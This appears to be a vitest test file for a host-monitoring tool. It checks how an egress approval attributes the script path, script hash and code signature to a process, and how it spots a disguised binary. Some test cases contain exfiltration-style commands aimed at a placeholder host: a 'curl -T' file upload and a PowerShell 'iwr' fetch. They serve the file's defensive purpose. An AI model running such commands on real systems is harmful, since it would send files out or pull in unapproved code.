import { describe, expect, it } from 'vitest';
import type { Egress, HostView } from '../analytics/host-view.ts';
import { sha256Hex } from '../event/sha256.ts';
import { newProcess } from '../hosts/new-process.ts';
import type { Process } from '../hosts/process.ts';
import { approvalFacts } from './approval-facts.ts';

const SCRIPT = '/usr/local/sbin/dump.sh';

const view = {
  host: 'ws01',
  aliases: ['ws01.corp.example.org'],
  scripts: [],
  operations: [],
} as unknown as HostView;

function egressOf(changes: Partial<Process>): Egress {
  const process = Object.assign(newProcess('1', undefined, 1, 0, changes.platform ?? 'linux'), changes);
  return {
    process,
    address: '203.0.113.9',
    port: 443,
    protocol: 'tcp',
    first: 0,
    last: 0,
  } as unknown as Egress;
}

const factsOf = (changes: Partial<Process>): ReturnType<typeof approvalFacts> =>
  approvalFacts(view, egressOf(changes), undefined);

describe('the script an approval may rest on', () => {
  const bash = (...words: readonly string[]): Partial<Process> => ({
    image: '/usr/bin/bash',
    arguments: ['bash', ...words],
    commandLine: ['bash', ...words].join(' '),
  });

  it('is the file the interpreter was started for, by its full path', () => {
    expect(factsOf(bash('-e', SCRIPT, 'now')).scriptPath).toBe(SCRIPT);
    expect(factsOf({ ...bash('dump.sh'), cwd: '/usr/local/sbin' }).scriptPath).toBe(SCRIPT);
    expect(factsOf({ ...bash('/dev/fd/63'), scriptPath: SCRIPT }).scriptPath).toBe(SCRIPT);
    const powershell = {
      platform: 'windows',
      image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      commandLine: 'powershell.exe -NoProfile -File "C:\\Program Files\\Acme\\up.ps1" now',
    } as const;
    expect(factsOf(powershell).scriptPath).toBe('C:\\Program Files\\Acme\\up.ps1');
  });

  it.each<[string, Partial<Process>]>([
    ['an argument of another script', bash('/tmp/up', SCRIPT)],
    ['a remark in code', bash('-c', `curl -T /tmp/x evil.example # ${SCRIPT}`)],
    ['the name it gave itself', { image: '/usr/bin/bash', commandLine: `bash ${SCRIPT} /tmp/up` }],
    ['a path through a link', bash('/tmp/link/../../usr/local/sbin/dump.sh')],
    [
      'an argument of PowerShell code',
      {
        platform: 'windows',
        image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        commandLine: 'powershell.exe -Command iwr evil.example -File C:\\Windows\\up.ps1',
      },
    ],
  ])('is not %s', (_, changes) => {
    expect([undefined, '/tmp/up']).toContain(factsOf(changes).scriptPath);
  });

  it('is known by its hash where its whole text stands on the command line', () => {
    const code = 'import os; os.system("true")';
    const python = { image: '/usr/bin/python3', arguments: ['python3', '-c', code, 'x'] };
    expect(factsOf(python)).toMatchObject({ scriptPath: undefined, scriptSha256: sha256Hex(code) });
    expect(
      factsOf({ ...python, arguments: ['python3', '-c', 'x'.repeat(4_001)] }).scriptSha256,
    ).toBeUndefined();
    expect(
      factsOf({ image: '/usr/bin/python3', commandLine: `python3 -c ${code}` }).scriptSha256,
    ).toBeUndefined();
    expect(factsOf(bash(SCRIPT)).scriptSha256).toBeUndefined();
  });
});

describe('the signature an approval may rest on', () => {
  const signer = { identifier: 'Google LLC', team: undefined, platformBinary: false };

  it('of Windows is a subject that the sensor found valid, with or without a team', () => {
    const chrome = { platform: 'windows', image: 'C:\\chrome.exe' } as const;
    expect(factsOf({ ...chrome, signer })).toMatchObject({ signed: true, signer: 'Google LLC' });
    expect(factsOf({ ...chrome, signer: { ...signer, identifier: undefined } }).signed).toBe(false);
    expect(factsOf(chrome).signed).toBeUndefined();
    expect(factsOf({ ...chrome, signer, signed: false }).signed).toBe(false);
  });

  it('of macOS is that of a team or of the system', () => {
    const slack = { platform: 'macos', image: '/Applications/Slack.app/Contents/MacOS/Slack' } as const;
    expect(factsOf({ ...slack, signer }).signed).toBe(false);
    expect(factsOf({ ...slack, signer: { ...signer, team: 'BQR82RBBHL' } }).signed).toBe(true);
  });
});

it('tells a driven browser from a disguised tool', () => {
  const chrome = {
    platform: 'windows',
    image: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
  } as const;
  expect(factsOf({ ...chrome, commandLine: 'chrome.exe --headless' })).toMatchObject({
    driven: true,
    disguised: false,
  });
  expect(factsOf({ ...chrome, originalName: 'curl.exe' })).toMatchObject({ driven: false, disguised: true });
});
